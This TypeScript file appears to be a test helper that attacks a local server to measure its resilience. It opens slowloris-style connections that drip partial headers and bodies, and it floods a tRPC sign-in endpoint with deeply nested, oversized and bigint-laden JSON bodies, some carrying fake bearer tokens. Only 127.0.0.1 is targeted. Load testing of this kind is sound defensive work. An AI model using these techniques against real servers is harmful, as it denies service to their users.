// A visitor who wants to stall the server, as a process of its own: what it costs to attack is no time of whoever measures.
// Only addresses of this machine are attacked. Started with the port, how many half-open connections of each kind, and how many bodies a
// second; "on" and "off" begin and end it, "tell" asks what came of it.
import { randomUUID } from "node:crypto";
import { setMaxListeners } from "node:events";
import { Agent, request } from "node:http";
import { connect, type Socket } from "node:net";

const HOST = "127.0.0.1";
const port = Number(process.argv[2]);
const size = Number(process.argv[3]);
const bodiesPerSecond = Number(process.argv[4]);

/** Connections that bodies are sent on at once. */
const FLOODS = 3;
/** Whoever is not answered by the time the next body is due hangs up and connects anew: the rate is the same whatever the server does. */
const EVERY_MS = (FLOODS * 1_000) / bodiesPerSecond;

const agent = new Agent({ keepAlive: true, maxSockets: 100 });
let going = new AbortController();
going.abort();
const counts: Record<string, number> = {};

/** Bodies that each cost a server that reads them whole a second: deep, of many instructions, and of one endless number. */
const BODIES = [
  `{"0":{"json":${"[".repeat(300_000)}${"]".repeat(300_000)},"meta":{"values":{}}}}`,
  JSON.stringify({
    0: {
      json: Array.from({ length: 15_000 }, () => "2026-01-01T00:00:00Z"),
      meta: { values: Object.fromEntries(Array.from({ length: 15_000 }, (_, index) => [index, ["Date"]])) },
    },
  }),
  `{"0":{"json":{"a":"${"9".repeat(600_000)}"},"meta":{"values":{"a":["bigint"]}}}}`,
];

const count = (what: string): void => {
  counts[what] = (counts[what] ?? 0) + 1;
};

function post(body: string, headers: Record<string, string>): Promise<void> {
  return new Promise((resolve) => {
    const path = "/trpc/auth.signIn?batch=1";
    const all = { "content-type": "application/json", ...headers };
    const outgoing = request({ agent, host: HOST, port, path, method: "POST", headers: all }, (answer) => {
      answer.resume();
      count(String(answer.statusCode));
      answer.on("close", resolve);
    });
    const hangUp = setTimeout(() => outgoing.destroy(new Error("It took too long.")), EVERY_MS);
    outgoing.on("close", () => clearTimeout(hangUp));
    outgoing.on("error", () => {
      count("cut");
      resolve();
    });
    count("sent");
    outgoing.end(body);
  });
}

/** Sends one body after the other, at its rate; every other time with a token that is none. */
async function flood(first: number, { signal }: AbortController): Promise<void> {
  for (let index = first; !signal.aborted; index++) {
    const due = new Promise((resolve) => setTimeout(resolve, EVERY_MS));
    const headers: Record<string, string> =
      index % 2 === 0 ? {} : { authorization: `Bearer ${randomUUID()}.a.b` };
    await post(BODIES[index % BODIES.length] ?? "", headers);
    await due;
  }
}

const open = new Set<Socket>();

/** A connection that sends a letter a second of what it has announced, and is made anew when it is ended. */
function drip(head: string, attack: AbortController): void {
  if (attack.signal.aborted) return;
  const socket = connect(port, HOST);
  open.add(socket);
  socket.write(head);
  const drop = setInterval(() => socket.write("x"), 1_000);
  attack.signal.addEventListener("abort", () => socket.destroy());
  socket.on("error", () => {});
  socket.on("close", () => {
    clearInterval(drop);
    open.delete(socket);
    if (attack.signal.aborted) return;
    count("ended");
    setTimeout(() => drip(head, attack), 1_000);
  });
}

const SLOW_HEAD = "POST /trpc/auth.signIn HTTP/1.1\r\nHost: x\r\nX-";
const SLOW_BODY =
  "POST /trpc/auth.signIn HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{";

function begin(): void {
  const attack = new AbortController();
  setMaxListeners(0, attack.signal);
  going = attack;
  // Their letters come spread over the second, as those of strangers do.
  for (let n = 0; n < size; n++) {
    setTimeout(() => drip(SLOW_HEAD, attack), (n * 1_000) / size);
    setTimeout(() => drip(SLOW_BODY, attack), (n * 1_000) / size);
  }
  for (let n = 0; n < FLOODS; n++) setTimeout(() => void flood(n, attack), (n * EVERY_MS) / FLOODS);
}

process.once("disconnect", () => {
  going.abort();
  process.exit(0);
});
process.on("message", (message) => {
  if (message === "on") begin();
  if (message === "off") going.abort();
  process.send?.({ ...counts, open: open.size });
});
process.send?.("ready");
